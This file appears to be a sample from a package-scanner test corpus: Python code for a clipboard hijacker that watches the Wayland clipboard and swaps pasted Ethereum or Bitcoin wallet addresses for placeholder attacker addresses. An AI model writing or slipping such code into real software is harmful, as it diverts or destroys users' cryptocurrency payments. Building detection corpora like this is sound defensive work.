# pkgguard corpus 556 (clipboard), modelled on [stealer-profile]; inert, never run.
import re
import subprocess
import time

_WALLET = re.compile(r"^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,39}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$")
_MINE = {"0x": "0x000000000000000000000000000000000000dEaD", "b": "bc1qplaceholderplaceholderplaceholder0000"}


def _watch():
    while True:
        text = subprocess.run(["wl-paste", "--no-newline"], capture_output=True, text=True).stdout
        if _WALLET.match(text):
            mine = _MINE["0x"] if text.startswith("0x") else _MINE["b"]
            subprocess.run(["wl-copy"], input=mine, text=True)
        time.sleep(0.5)
